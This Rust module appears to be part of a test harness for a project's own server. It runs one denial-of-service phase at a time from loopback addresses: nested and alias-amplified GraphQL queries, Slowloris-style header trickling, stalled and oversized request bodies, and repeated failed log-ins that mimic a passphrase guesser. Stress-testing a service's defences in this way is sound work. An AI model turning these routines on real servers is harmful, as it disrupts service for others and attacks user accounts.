//! The attacks, one per phase, from the attacker's addresses (127.0.0.2 and up): raw HTTP and
//! raw sockets on purpose, since they send what no client would.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    sync::Arc,
    time::{Duration, Instant},
};

use hypnos_crypto::{encoding::to_hex, random::bytes};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpSocket,
    task::JoinSet,
};

use super::record::{Tally, error_label};
use crate::LoadError;

/// Where and whom to attack.
pub(super) struct Target {
    pub(super) base: String,
    pub(super) address: SocketAddr,
    pub(super) attacker_session: String,
    pub(super) attacker_project: String,
    pub(super) big_blob_id: String,
    pub(super) honest_email: String,
    pub(super) nesting: usize,
}

impl Target {
    fn graphql(&self) -> String {
        format!("{}/graphql", self.base)
    }
}

/// An HTTP client whose connections come from `source`.
pub(super) fn client_from(source: IpAddr, timeout: Duration) -> Result<reqwest::Client, LoadError> {
    Ok(reqwest::Client::builder()
        .no_proxy()
        .local_address(source)
        .timeout(timeout)
        .build()?)
}

fn attacker_address(index: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2 + index))
}

/// Sends one request and reads (and drops) the whole answer, however large.
async fn send_and_drain(request: reqwest::RequestBuilder, tally: &Tally) {
    match request.send().await {
        Ok(mut response) => {
            let status = response.status().as_u16().to_string();
            loop {
                match response.chunk().await {
                    Ok(Some(_)) => {}
                    Ok(None) => {
                        tally.add(status);
                        break;
                    }
                    Err(error) => {
                        tally.add(format!("{status}, then {}", error_label(&error)));
                        break;
                    }
                }
            }
        }
        Err(error) => tally.add(error_label(&error)),
    }
}

/// The attack of one phase, running until `until`.
pub(super) async fn attack(
    phase: &str,
    target: &Target,
    until: Instant,
    tally: Tally,
) -> Result<(), LoadError> {
    let mut tasks = JoinSet::new();
    match phase {
        "nesting" => {
            let depth = target.nesting;
            let query = format!(
                "{{ blobs(project: \"{}\", ids: {}\"x\"{}) {{ id }} }}",
                target.attacker_project,
                "[".repeat(depth),
                "]".repeat(depth)
            );
            for worker in 0..4u8 {
                let http = client_from(attacker_address(worker), Duration::from_secs(30))?;
                let (url, session, body) = (
                    target.graphql(),
                    target.attacker_session.clone(),
                    json!({ "query": query }),
                );
                let tally = tally.clone();
                tasks.spawn(async move {
                    while Instant::now() < until {
                        let request = http.post(&url).header("X-Session-Id", &session).json(&body);
                        send_and_drain(request, &tally).await;
                    }
                });
            }
        }
        "aliases" => {
            let blobs: String = (0..100)
                .map(|i| {
                    format!(
                        "a{i}: blobs(project: \"{}\", ids: [\"{}\"]) {{ content }} ",
                        target.attacker_project, target.big_blob_id
                    )
                })
                .collect();
            let branches: String = (0..30_000)
                .map(|i| {
                    format!(
                        "b{i}: branches(project: \"{}\") {{ name }} ",
                        target.attacker_project
                    )
                })
                .collect();
            for (worker, query) in [format!("{{ {blobs} }}"), format!("{{ {branches} }}")]
                .into_iter()
                .cycle()
                .take(4)
                .enumerate()
            {
                let http = client_from(attacker_address(worker as u8), Duration::from_secs(60))?;
                let (url, session) = (target.graphql(), target.attacker_session.clone());
                let body = json!({ "query": query });
                let tally = tally.clone();
                tasks.spawn(async move {
                    while Instant::now() < until {
                        let request = http.post(&url).header("X-Session-Id", &session).json(&body);
                        send_and_drain(request, &tally).await;
                    }
                });
            }
        }
        "slow-clients" => {
            for index in 0..200u32 {
                let (address, tally) = (target.address, tally.clone());
                tasks.spawn(async move {
                    trickle_headers(address, attacker_address((index % 8) as u8), until, &tally)
                        .await;
                });
            }
            for index in 0..20u32 {
                let (address, tally) = (target.address, tally.clone());
                let session = target.attacker_session.clone();
                tasks.spawn(async move {
                    stall_body(
                        address,
                        attacker_address((index % 8) as u8),
                        &session,
                        until,
                        &tally,
                    )
                    .await;
                });
            }
        }
        "big-bodies" => {
            let big = Arc::new(vec![b' '; 40 * 1024 * 1024]);
            let small = Arc::new(vec![b' '; 2 * 1024 * 1024]);
            for worker in 0..4u8 {
                let http = client_from(attacker_address(worker), Duration::from_secs(30))?;
                let (base, session) = (target.base.clone(), target.attacker_session.clone());
                let (big, small, tally) = (big.clone(), small.clone(), tally.clone());
                tasks.spawn(async move {
                    while Instant::now() < until {
                        let request = http
                            .post(format!("{base}/graphql"))
                            .header("X-Session-Id", &session)
                            .header("Content-Type", "application/json")
                            .body(big.to_vec());
                        send_and_drain(request, &tally).await;
                        let request = http
                            .post(format!("{base}/auth/login-a"))
                            .header("Content-Type", "application/json")
                            .body(small.to_vec());
                        send_and_drain(request, &tally).await;
                    }
                });
            }
        }
        "lock-out" => {
            // Failed log-ins (a start, then a wrong proof), as a passphrase guesser makes them.
            let a = to_hex(&[7u8; 256]);
            for worker in 0..8u8 {
                let http = client_from(attacker_address(worker), Duration::from_secs(30))?;
                let base = target.base.clone();
                let start = json!({"email": target.honest_email, "srpA": a});
                let tally = tally.clone();
                tasks.spawn(async move {
                    while Instant::now() < until {
                        guess(&http, &base, &start, &tally).await;
                    }
                });
            }
        }
        _ => {}
    }
    // Every task ends by `until`; a stuck one is abandoned a little later.
    let deadline = until + Duration::from_secs(5);
    while tokio::time::timeout_at(deadline.into(), tasks.join_next())
        .await
        .is_ok_and(|next| next.is_some())
    {}
    tasks.abort_all();
    Ok(())
}

/// One wrong guess: login-a, then login-m1 with a random proof; tallies the proof's answer (or
/// the start's, when the start is refused).
async fn guess(http: &reqwest::Client, base: &str, start: &Value, tally: &Tally) {
    let started = match http
        .post(format!("{base}/auth/login-a"))
        .json(start)
        .send()
        .await
    {
        Ok(response) if response.status().is_success() => response.json::<Value>().await,
        Ok(response) => {
            tally.add(format!("login-a {}", response.status().as_u16()));
            return;
        }
        Err(error) => {
            tally.add(error_label(&error));
            return;
        }
    };
    let Ok(started) = started else {
        tally.add("login-a unreadable");
        return;
    };
    let proof = bytes::<32>()
        .map(|proof| to_hex(&proof))
        .unwrap_or_default();
    let request = http.post(format!("{base}/auth/login-m1")).json(&json!({
        "srpM1": proof,
        "sessionStarterId": started["sessionStarterId"],
    }));
    match request.send().await {
        Ok(response) => tally.add(format!("login-m1 {}", response.status().as_u16())),
        Err(error) => tally.add(error_label(&error)),
    }
}

async fn connect_from(
    address: SocketAddr,
    source: IpAddr,
) -> std::io::Result<tokio::net::TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(address).await
}

/// Sends a request head one byte a second until the server closes or `until`.
async fn trickle_headers(address: SocketAddr, source: IpAddr, until: Instant, tally: &Tally) {
    let Ok(mut stream) = connect_from(address, source).await else {
        tally.add("trickle: connect refused");
        return;
    };
    if stream
        .write_all(b"POST /auth/login-s HTTP/1.1\r\nHost: hostile\r\nX-Slow: ")
        .await
        .is_err()
    {
        tally.add("trickle: closed by server");
        return;
    }
    while Instant::now() < until {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if stream.write_all(b"a").await.is_err() {
            tally.add("trickle: closed by server");
            return;
        }
    }
    tally.add("trickle: still open at phase end");
}

/// Sends 30 MiB of a 32,000,000-byte GraphQL body, then nothing until the server gives up or
/// `until`.
async fn stall_body(
    address: SocketAddr,
    source: IpAddr,
    session: &str,
    until: Instant,
    tally: &Tally,
) {
    let Ok(mut stream) = connect_from(address, source).await else {
        tally.add("stall: connect refused");
        return;
    };
    let head = format!(
        "POST /graphql HTTP/1.1\r\nHost: hostile\r\nX-Session-Id: {session}\r\nContent-Type: application/json\r\nContent-Length: 32000000\r\n\r\n"
    );
    let chunk = vec![b' '; 1024 * 1024];
    let mut sent = stream.write_all(head.as_bytes()).await.is_ok();
    for _ in 0..30 {
        if !sent || Instant::now() >= until {
            break;
        }
        sent = stream.write_all(&chunk).await.is_ok();
    }
    let mut buffer = [0u8; 4096];
    let remaining = until.saturating_duration_since(Instant::now());
    match tokio::time::timeout(remaining, stream.read(&mut buffer)).await {
        Err(_) => tally.add("stall: still open at phase end"),
        Ok(Ok(0)) | Ok(Err(_)) => tally.add("stall: closed by server"),
        Ok(Ok(read)) => {
            let answer = String::from_utf8_lossy(&buffer[..read]);
            let status = answer.split_whitespace().nth(1).unwrap_or("?").to_owned();
            tally.add(format!("stall: answered {status}"));
        }
    }
}
